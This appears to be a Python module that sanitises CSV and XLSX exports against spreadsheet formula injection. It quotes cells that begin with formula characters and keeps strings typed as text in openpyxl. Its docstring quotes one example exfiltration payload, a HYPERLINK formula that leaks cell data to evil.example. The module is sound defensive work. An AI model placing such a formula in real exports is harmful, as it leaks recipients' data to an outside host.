"""Every CSV and XLSX the hub writes goes through here, so no cell opens as a live formula.

A spreadsheet treats a cell that begins with `=`, `+`, `-`, `@`, a tab, a carriage return
or a NUL as a formula (or strips the first character and then evaluates the rest). Feed
values, consultation answers and directory entries come from outside the hub, so an export
could carry `=HYPERLINK("http://evil.example/?leak="&A3,"Details")` to a commissioner's
desktop. OWASP's CSV injection guidance and ASVS 5.0 requirement 1.2.10 say: put a single
quote before such a cell. A plain negative number such as `-5` or `-3.5` is left alone:
spreadsheets read it as a number, never a formula, and figures must still add up. Anything
else, `+44 7700 900123` included, gets the quote and so stays text (ADR 0035).

In XLSX, openpyxl stores any string beginning with `=` as a formula; `xlsx_append` keeps
every string a string (with Excel's "quote prefix" style, so editing the cell does not turn
it into one) and numbers stay typed numbers.
"""

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import TYPE_CHECKING, Any, Literal, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
QUOTE = "'"
# A plain negative decimal number: read as a number by every spreadsheet, never a formula.
_NEGATIVE_NUMBER = re.compile(r"-\d+(?:\.\d+)?")


if TYPE_CHECKING:
    _DictWriter = csv.DictWriter[str]
else:
    _DictWriter = csv.DictWriter  # not subscriptable at run time on Python 3.11


class RFC4180(csv.excel):
    """Comma, double quote, CRLF: a cell holding a line break (CR or LF), a comma or a quote
    is quoted, as RFC 4180 sections 2.6 and 2.7 say (ASVS 5.0 1.2.10). With a bare LF line
    ending Python's writer would leave a CR unquoted and the row would split in two."""

    lineterminator = "\r\n"
    quoting = csv.QUOTE_MINIMAL


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def formula_safe(value: Any) -> Any:
    """The cell to write: text that a spreadsheet would evaluate gets a leading quote."""
    starts_a_formula = isinstance(value, str) and value.startswith(FORMULA_STARTS)
    if starts_a_formula and not _NEGATIVE_NUMBER.fullmatch(value):
        return QUOTE + value
    return value


def formula_restored(value: str) -> str:
    """The value `formula_safe` was given: an import of the hub's own export (the directory,
    a transfer package) reads back what was exported, not the added quote."""
    if value.startswith(QUOTE) and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


class SafeCsvWriter:
    """`csv.writer` whose every cell has passed `formula_safe`, in RFC 4180's dialect."""

    def __init__(self, out: _Writable) -> None:
        self._writer = csv.writer(out, dialect=RFC4180)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([formula_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeCsvDictWriter(_DictWriter):
    """`csv.DictWriter` whose every cell (header included) has passed `formula_safe`, in
    RFC 4180's dialect."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: formula_safe(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)


def csv_writer(out: _Writable) -> SafeCsvWriter:
    return SafeCsvWriter(out)


def csv_dict_writer(
    out: _Writable, fieldnames: Sequence[str], *, extrasaction: Literal["raise", "ignore"] = "raise"
) -> SafeCsvDictWriter:
    return SafeCsvDictWriter(out, fieldnames=fieldnames, extrasaction=extrasaction, dialect=RFC4180)


def xlsx_append(sheet: Any, row: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet: numbers stay numbers, text stays text.

    Control characters an XLSX file cannot hold (NUL and the like) are left out, so a stray
    one in a label cannot turn the download into an error."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

    cells = []
    for value in row:
        if isinstance(value, str):
            value = ILLEGAL_CHARACTERS_RE.sub("", value)
        cell = Cell(sheet, value=value)
        if isinstance(value, str) and value.startswith(FORMULA_STARTS):
            cell.data_type = "s"  # openpyxl makes a string beginning with `=` a formula
            cell.quotePrefix = True  # and Excel keeps it text if someone edits the cell
        cells.append(cell)
    sheet.append(cells)


__all__ = [
    "FORMULA_STARTS",
    "csv_dict_writer",
    "csv_writer",
    "formula_restored",
    "formula_safe",
    "xlsx_append",
]
